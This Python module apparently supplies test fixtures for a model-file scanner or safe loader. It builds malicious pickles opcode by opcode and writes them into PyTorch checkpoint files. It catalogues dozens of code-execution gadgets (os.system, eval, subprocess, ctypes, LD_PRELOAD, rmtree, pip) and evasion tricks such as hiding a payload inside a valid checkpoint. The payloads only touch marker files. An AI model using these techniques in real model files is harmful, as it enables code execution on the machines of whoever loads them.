"""Pickles that would run code, written opcode by opcode, and checkpoint files with one of them inside."""

import io
import pickle
import pickletools
import zipfile
from functools import cache
from pathlib import Path

import torch

STATE = {"weight": torch.ones(2, 2), "bias": torch.zeros(2)}


def text(value: str) -> bytes:
    """Return the opcode that pushes a text."""
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def push(*values) -> bytes:
    """Return the opcodes that push a tuple of texts, numbers, None and what is pushed by opcodes (bytes)."""
    parts = {
        str: text,
        bytes: bytes,
        int: lambda n: b"J" + n.to_bytes(4, "little", signed=True),
        type(None): lambda n: b"N",
    }
    return b"(" + b"".join(parts[type(value)](value) for value in values) + b"t"


def function(module: str, name: str) -> bytes:
    """Return the opcode that pushes what `from module import name` has."""
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    """Return the opcodes of protocol 4 that push the same, also through attributes (`path.os.system`)."""
    return text(module) + text(name) + b"\x93"


def call(what: bytes, *args) -> bytes:
    """Return the opcodes that push what a function, pushed by opcodes, returns for values (see `push`)."""
    return what + push(*args) + b"R"


def gadgets(mark: str) -> dict[str, bytes]:
    """Return bodies of pickles that make the file `mark`, or would do worse, by what they name or how they do it."""
    touch, code = f"touch {mark}", f"open({mark!r}, 'w').close()"
    system = function("os", "system")
    bomb = text(f"cos\nsystem\n(S'{touch}'\ntR.") + b"("
    calls = {
        "os.system": ("os", "system", touch),
        "posix.system": ("posix", "system", touch),
        "nt.system": ("nt", "system", touch),
        "os.popen": ("os", "popen", touch),
        "os.execlp": ("os", "execlp", "touch", "touch", mark),
        "os.mkdir": ("os", "mkdir", mark),
        "os.remove": ("os", "remove", mark),
        "os.putenv": ("os", "putenv", "LD_PRELOAD", mark),
        "subprocess.getoutput": ("subprocess", "getoutput", touch),
        "commands of Python 2": ("commands", "getoutput", touch),
        "pty.spawn": ("pty", "spawn", touch),
        "builtins.eval": ("builtins", "eval", code),
        "eval of Python 2": ("__builtin__", "eval", code),
        "builtins.exec": ("builtins", "exec", code),
        "builtins.execfile": ("__builtin__", "execfile", mark),
        "builtins.compile": ("builtins", "compile", code, "x", "exec"),
        "builtins.__import__": ("builtins", "__import__", "antigravity"),
        "builtins.open": ("builtins", "open", mark, "w"),
        "builtins.map": ("builtins", "map", system, push(touch)),
        "builtins.setattr": ("builtins", "setattr", function("torch", "nn"), "Module", None),
        "builtins.breakpoint": ("builtins", "breakpoint"),
        "io.open": ("io", "open", mark, "w"),
        "_io.FileIO": ("_io", "FileIO", mark, "w"),
        "pathlib.Path.touch": ("pathlib", "Path.touch", mark),
        "importlib.import_module": ("importlib", "import_module", "antigravity"),
        "runpy.run_path": ("runpy", "run_path", mark),
        "runpy._run_code": ("runpy", "_run_code", code, b"}"),
        "code.InteractiveInterpreter": ("code", "InteractiveInterpreter"),
        "codeop.compile_command": ("codeop", "compile_command", code),
        "timeit.timeit": ("timeit", "timeit", code),
        "cProfile.run": ("cProfile", "run", code),
        "profile.run": ("profile", "run", code),
        "pdb.run": ("pdb", "run", code),
        "bdb.Bdb.run": ("bdb", "Bdb.run", b"N", code),
        "trace.Trace": ("trace", "Trace"),
        "doctest.debug_script": ("doctest", "debug_script", code),
        "marshal.loads": ("marshal", "loads", "x"),
        "types.FunctionType": ("types", "FunctionType", call(function("marshal", "loads"), "x"), b"}"),
        "types.CodeType": ("types", "CodeType"),
        "pickle.loads": ("pickle", "loads", bomb[:-1]),
        "_pickle.loads": ("_pickle", "loads", bomb[:-1]),
        "cPickle of Python 2": ("cPickle", "loads", bomb[:-1]),
        "shelve.open": ("shelve", "open", mark),
        "joblib.load": ("joblib", "load", mark),
        "dill.loads": ("dill", "loads", bomb[:-1]),
        "cloudpickle.loads": ("cloudpickle", "loads", bomb[:-1]),
        "pandas.read_pickle": ("pandas", "read_pickle", mark),
        "torch.load": ("torch", "load", mark),
        "torch.serialization.load": ("torch.serialization", "load", mark),
        "torch.serialization._load": ("torch.serialization", "_load", mark),
        "torch.storage._load_from_bytes": ("torch.storage", "_load_from_bytes", bomb[:-1]),
        "torch.jit.load": ("torch.jit", "load", mark),
        "torch.jit._script.load": ("torch.jit._script", "load", mark),
        "torch.hub.load": ("torch.hub", "load", mark, "net"),
        "torch.hub.download_url_to_file": ("torch.hub", "download_url_to_file", "file:///etc/hostname", mark),
        "torch.save": ("torch", "save", None, mark),
        "torch.UntypedStorage.from_file": ("torch", "UntypedStorage.from_file", mark, b"\x88", 10),
        "torch.ops.load_library": ("torch._ops", "ops.load_library", mark),
        "torch.utils.cpp_extension.load": ("torch.utils.cpp_extension", "load", "x", mark),
        "torch._inductor": ("torch._inductor.codecache", "compile_file", mark),
        "torch.fx._symbolic_trace": ("torch.fx.graph_module", "reduce_graph_module", b"}", code),
        "torch.package": ("torch.package", "PackageImporter", mark),
        "torch.os.system": ("torch", "os.system", touch),
        "numpy.load": ("numpy", "load", mark, None, b"\x88"),
        "numpy.lib.npyio.load": ("numpy.lib.npyio", "load", mark, None, b"\x88"),
        "numpy.f2py": ("numpy.f2py", "compile", code),
        "numpy.testing runstring": ("numpy.testing._private.utils", "runstring", code, b"}"),
        "numpy.distutils exec_command": ("numpy.distutils.exec_command", "exec_command", touch),
        "functools.partial": ("functools", "partial", system, touch),
        "functools.reduce": ("functools", "reduce", system, push(touch)),
        "operator.methodcaller": ("operator", "methodcaller", "touch"),
        "operator.attrgetter": ("operator", "attrgetter", "system"),
        "itertools.starmap": ("itertools", "starmap", system, push(push(touch))),
        "collections.defaultdict of a gadget": ("collections", "defaultdict", system),
        "ctypes.CDLL": ("ctypes", "CDLL", mark),
        "webbrowser.open": ("webbrowser", "open", f"file://{mark}"),
        "shutil.rmtree": ("shutil", "rmtree", mark),
        "shutil.copy": ("shutil", "copy", "/etc/hostname", mark),
        "socket.create_connection": ("socket", "create_connection", push("localhost", 9)),
        "urllib.request.urlopen": ("urllib.request", "urlopen", "http://localhost:9"),
        "multiprocessing.util.spawnv_passfds": ("multiprocessing.util", "spawnv_passfds", mark, push(touch)),
        "threading.Thread": ("threading", "Thread", None, system),
        "asyncio.create_subprocess_shell": ("asyncio", "create_subprocess_shell", touch),
        "signal.signal": ("signal", "signal", 15, system),
        "atexit.register": ("atexit", "register", system, touch),
        "sys.settrace": ("sys", "settrace", system),
        "gc.get_objects": ("gc", "get_objects"),
        "logging.config.dictConfig": ("logging.config", "dictConfig", b"}"),
        "yaml.unsafe_load": ("yaml", "unsafe_load", "x"),
        "mmengine.Config.fromfile": ("mmengine.config.config", "os.system", touch),
        "mmengine's registry": ("mmengine.registry", "build_from_cfg", b"}"),
        "copyreg.add_extension": ("copyreg", "add_extension", "os", "system", 77),
        "pip": ("pip._internal.cli.main", "main", push("install", "x")),
        "a class of the file's author": ("__main__", "Config"),
        "a network": ("torch.nn.modules.linear", "Linear", 2, 2),
    }
    fetched = call(function("builtins", "getattr"), call(function("builtins", "__import__"), "os"), "system")
    ways = {
        "by STACK_GLOBAL": call(stacked("os", "system"), touch),
        "by attributes of a module": call(stacked("os", "path.os.system"), touch),
        "by attributes of a harmless class": call(stacked("collections", "OrderedDict.__class__.__base__"), touch),
        "by getattr": call(fetched, touch),
        "by getattr of a harmless class": call(
            function("builtins", "getattr"), function("argparse", "Namespace"), "__init__.__globals__"
        ),
        "by INST": b"(" + text(touch) + b"ios\nsystem\n",
        "by OBJ": b"(" + system + text(touch) + b"o",
        "by NEWOBJ": function("subprocess", "Popen") + push(touch) + b"\x81",
        "by NEWOBJ_EX": function("subprocess", "Popen") + push(touch) + b"}" + b"\x92",
        "by a state": function("os", "system") + b"}" + text("x") + text(touch) + b"sb",
        "by copyreg.__newobj_ex__": call(
            function("copyreg", "__newobj_ex__"), function("subprocess", "Popen"), push(touch), b"}"
        ),
        "as a setter of states": call(function("builtins", "setattr"), b"]", "append", system),
        "in a list": b"]" + call(system, touch) + b"a",
        "as a key": b"}" + call(system, touch) + b"Ns",
        "in a set": b"\x8f(" + call(system, touch) + b"\x90",
    }
    return {name: call(function(*what[:2]), *what[2:]) for name, what in calls.items()} | ways


def pickled(body: bytes) -> bytes:
    """Return a pickle with a body of opcodes."""
    return b"\x80\x04" + body + b"."


@cache
def parts_of(legacy: bool) -> tuple[bytes, bytes, bytes]:
    """Return what `torch.save` writes of a checkpoint in three: before its pickle, the pickle, and after."""
    if not legacy:
        return b"", records_of_state()["data.pkl"], b""
    file = io.BytesIO()
    torch.save({"state_dict": STATE}, file, _use_new_zipfile_serialization=False)
    file.seek(0)
    for _ in range(3):
        pickle.load(file)
    start = file.tell()
    whole = file.getvalue()
    size = next(place for opcode, _, place in pickletools.genops(whole[start:]) if opcode.name == "STOP") + 1
    return whole[:start], whole[start : start + size], whole[start + size :]


@cache
def records_of_state() -> dict[str, bytes]:
    """Return the records of the archive that `torch.save` writes of a checkpoint."""
    file = io.BytesIO()
    torch.save({"state_dict": STATE}, file)
    with zipfile.ZipFile(file) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def write(path: Path, body: bytes, legacy: bool = False, beside: bool = False) -> Path:
    """Write a checkpoint file whose pickle has a body of opcodes.

    Args:
        path: the file.
        body: opcodes that push a value.
        legacy: in the format before torch 1.6, or else as a zip archive.
        beside: the value stands in a good checkpoint, or else it is the content.
    """
    before, good, after = parts_of(legacy)
    content = good[:-1] + text("extra") + body + b"s." if beside else pickled(body)
    if legacy:
        path.write_bytes(before + content + after)
        return path
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in records_of_state().items():
            archive.writestr(f"archive/{name}", content if name == "data.pkl" else data)
    return path
